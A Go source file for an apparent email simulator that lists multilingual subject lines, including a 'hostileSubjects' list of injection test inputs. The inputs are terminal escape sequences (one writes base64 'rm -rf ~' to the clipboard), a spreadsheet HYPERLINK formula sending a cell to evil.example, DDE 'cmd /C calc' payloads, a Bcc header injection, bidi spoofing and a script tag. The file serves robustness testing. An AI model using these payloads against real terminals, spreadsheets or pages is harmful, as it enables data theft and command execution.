package simulator

import "strings"

var businessSubjects = []string{
	"Invoice {n}", "Re: Invoice {n}", "Offer {n}", "RE: Offer {n} - revised",
	"Meeting on {day}", "Minutes of {day}", "Contract {n}", "Fwd: Delivery of order {n}",
	"Purchase order {n}", "Question about item {n}", "Project plan, version {n}",
	"AW: Angebot {n}", "Rechnung {n}", "Lieferschein {n} für {name}", "Devis n° {n}",
	"TR : Réunion de {day}", "Pedido {n} confirmado", "Ordine {n} spedito", "Zamówienie {n}", "Fatura {n} için ödeme", "請求書 {n}", "見積書のご送付 ({n})",
	"关于合同{n}的问题", "견적서 {n}", "Счёт № {n}", "Договор {n} на подпись", "عرض سعر رقم {n}", "הצעת מחיר {n}", "Τιμολόγιο {n}", "Training on {day}",
}

var customerSubjects = []string{
	"Question about my order {n}", "Where is order {n}?", "Return of item {n}", "Thank you 🙏", "Photos from {day} 📷", "Re: your offer", "Complaint {n}",
	"Kündigung Vertrag {n}", "Réclamation {n}", "Application for the job",
	"Новый заказ {n}", "お問い合わせ ({n})", "استفسار عن الطلب {n}", "👩‍💻 Help with my account",
}

var serviceSubjects = []string{
	"Your receipt {n}", "[build {n}] passed", "[build {n}] failed", "Alert: CPU above 90% on web-{n}", "Ticket #{n} was updated", "Ticket #{n} was closed",
	"Reminder: {day}", "Your order {n} has shipped", "Statement for {month}", "Weekly digest, {month}", "Password changed", "New sign-in from Berlin",
}

var internalSubjects = []string{
	"Lunch on {day}?", "Re: lunch", "Holiday plan {month}", "Budget {month}",
	"Please review document {n}", "Standup notes {day}", "Kaffee? ☕", "All hands on {day}",
	"Reorganisation: questions and answers", "Re: Reisekosten {month}", "1:1 on {day}",
	"Onboarding of {name}", "会議の件 ({day})", "Отчёт за {month}", "Welcome {name}! 🎉",
}

var junkSubjects = []string{
	"You have WON {n} USD", "Your mailbox is 99% full", "FINAL NOTICE {n}",
	"Cheap watches -{n}%", "Re: payment", "Urgent: verify your account", "💊 Best prices 💊",
	"Double your coins in {month}", "Voicemail from +1 555 0{n}", "ACH transfer {n} pending",
	"Document shared with you: Q3 bonus", "恭喜您中奖", "Срочно! Перевод {n} руб.",
	"HR: new salary table",
}

// hostileSubjects are what an attacker would send to a terminal, a spreadsheet
// or an eye: each must arrive in JSON as it is, and on a screen as harmless
// text.
var hostileSubjects = []string{
	"\x1b[31mred\x1b[0m \x1b[2J cleared \x1b]0;owned\x07",
	"\x1b]52;c;cm0gLXJmIH4=\x07 clipboard",
	"\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
	"invoice \u202etxt.exe\u202c and \u2066isolate\u2069",
	"in\u200bvi\u200dsi\u2060ble\ufeff zero \u00adwidth",
	"C1 \u009b31m and \u0090q payload\u009c \u0085 next line",
	"first line\r\nBcc: all@contoso.com\nthird\tline\x00\x7f",
	strings.Repeat("W", 240) + " and sixteen more"[:16],
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
	"Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030calgo",
	"👨‍👩‍👧‍👦 family 🏳️‍🌈 flag 🇩🇪 👍🏽", "ﷺ ﷽ 𒐫 wide", "   spaces   around   ",
	"<script>alert(1)</script> & \"quotes\" 'too' \\ back`tick` $(id) %s%n",
}
